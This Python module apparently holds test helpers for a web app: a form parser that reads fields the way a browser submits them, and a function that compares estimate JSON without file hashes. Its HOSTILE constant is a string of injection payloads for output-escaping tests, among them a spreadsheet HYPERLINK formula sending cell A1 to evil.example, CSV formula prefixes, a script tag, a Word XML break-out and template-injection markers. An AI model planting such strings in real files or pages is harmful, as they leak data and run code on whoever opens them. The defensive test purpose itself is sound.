"""Helpers for the web app's tests: read a page's form as a browser would submit it, and compare
two estimates as a budget officer would (every figure, not the hash of the input)."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import Any

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click") +1+2 -3+4 @SUM(A1:A9) '
    "<script>alert('x')</script> <b>bold</b> </w:t></w:r><w:r><w:t>injected &amp; {{ 7*7 }}"
    " {% raw %}"
)
"""The hostile text of the command line's corpus (tests/test_safe_outputs.py)."""


class FormReader(HTMLParser):
    """The fields of the form with id ``form_id``, as a browser submits them without pressing a
    button: text inputs and textareas with their values, checked boxes, selected options."""

    def __init__(self, form_id: str = "proposal-form") -> None:
        super().__init__(convert_charrefs=True)
        self.form_id = form_id
        self.inside = False
        self.fields: list[tuple[str, str]] = []
        self._select: str | None = None
        self._options: list[tuple[str, bool]] = []
        self._textarea: str | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self.inside = a.get("id") == self.form_id
            return
        mine = self.inside or a.get("form") == self.form_id
        if not mine:
            return
        name = a.get("name", "")
        if tag == "input" and name:
            kind = a.get("type", "text")
            if kind == "checkbox":
                if "checked" in a:
                    self.fields.append((name, a.get("value", "on")))
            elif kind not in ("submit", "button", "file"):
                self.fields.append((name, a.get("value", "")))
        elif tag == "select" and name:
            self._select, self._options = name, []
        elif tag == "option" and self._select is not None:
            self._options.append((a.get("value", ""), "selected" in a))
        elif tag == "textarea" and name:
            self._textarea, self._text = name, []

    def handle_data(self, data: str) -> None:
        if self._textarea is not None:
            self._text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.inside = False
        elif tag == "select" and self._select is not None:
            chosen = [v for v, s in self._options if s] or [v for v, _ in self._options[:1]]
            self.fields.append((self._select, chosen[0] if chosen else ""))
            self._select = None
        elif tag == "textarea" and self._textarea is not None:
            text = "".join(self._text)
            self.fields.append((self._textarea, text[1:] if text.startswith("\n") else text))
            self._textarea = None


def form_fields(html: str) -> list[tuple[str, str]]:
    reader = FormReader()
    reader.feed(html)
    return reader.fields


def figures(estimate_json: bytes | str) -> dict[str, Any]:
    """An estimate's JSON without what identifies the input file (its hash and name)."""
    data: dict[str, Any] = json.loads(estimate_json)

    def strip(value: Any) -> Any:
        if isinstance(value, dict):
            return {k: strip(v) for k, v in value.items() if "sha256" not in k and k != "file"}
        if isinstance(value, list):
            return [strip(v) for v in value]
        return value

    stripped: dict[str, Any] = strip(data)
    return stripped
